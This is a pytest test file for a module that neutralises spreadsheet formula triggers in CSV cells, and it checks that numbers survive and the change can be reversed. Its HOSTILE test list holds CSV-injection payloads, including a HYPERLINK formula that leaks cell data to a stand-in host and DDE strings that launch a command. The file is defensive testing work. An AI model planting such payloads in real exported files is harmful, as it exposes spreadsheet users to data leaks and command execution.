"""Spreadsheet-safe CSV cells: formula triggers neutralised, numbers untouched, reversible."""

from __future__ import annotations

import io

import polars as pl
import pytest

from auditreports.csvsafe import neutralise_cell, restore_cell, restore_csv_frame, safe_csv_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rcarriage return",
    "\nline feed",
    "'=already quoted formula",
    "''@two quotes",
]
BENIGN = ["hello", "'quoted'", "'", "''", "", "a=b", "user@example.com", "1-2", "é=ü"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cell_is_prefixed_with_a_quote(value: str) -> None:
    safe = neutralise_cell(value)
    assert safe == "'" + value
    assert restore_cell(safe) == value


@pytest.mark.parametrize("value", BENIGN)
def test_benign_cell_is_left_alone_and_restores_to_itself(value: str) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_frame_neutralises_strings_but_numbers_stay_numbers() -> None:
    df = pl.DataFrame(
        {
            "note": [*HOSTILE, *BENIGN, None],
            "record_count": [-5, *range(len(HOSTILE) + len(BENIGN) - 1), None],
            "ratio": [-1.5] * (len(HOSTILE) + len(BENIGN)) + [None],
        }
    )
    safe = safe_csv_frame(df).collect()
    # the vectorised form agrees with the scalar one, cell by cell
    assert safe["note"].to_list() == [neutralise_cell(v) for v in df["note"].to_list()]
    assert safe["record_count"].dtype == pl.Int64
    assert safe["record_count"].to_list() == df["record_count"].to_list()

    text = safe.write_csv()
    # a spreadsheet sees no cell starting with a trigger; the negative numbers are bare numbers
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") or lines[1].startswith("'=HYPERLINK(")
    assert ",-5,-1.5" in lines[1]

    back = pl.read_csv(io.StringIO(text), schema_overrides={"note": pl.String})
    restored = restore_csv_frame(back).collect()
    assert restored["note"].fill_null("").to_list() == df["note"].fill_null("").to_list()
    assert restored["record_count"].to_list() == df["record_count"].to_list()
